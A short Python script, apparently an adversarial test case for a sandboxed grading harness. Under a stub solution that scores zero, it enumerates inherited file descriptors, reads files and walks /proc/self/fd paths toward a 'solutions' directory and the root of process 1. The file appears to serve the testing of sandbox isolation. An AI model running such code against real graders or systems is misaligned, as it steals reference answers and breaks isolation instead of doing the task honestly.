# attack: reads every inherited descriptor, and every file that one of them leads to
# points: double=0 total=*
# %% double
import os, stat
def double(x): return x
for number in range(3, 1024):
    try:
        what = os.fstat(number)
    except OSError:
        continue
    if stat.S_ISREG(what.st_mode):
        print(number, os.pread(number, 4096, 0))
    elif stat.S_ISDIR(what.st_mode):
        print(number, os.listdir(number))
        for path in ("../..", "../../../solutions", "proc/1/root"):
            try:
                print("directory", os.listdir(f"/proc/self/fd/{number}/{path}"))
            except OSError:
                pass
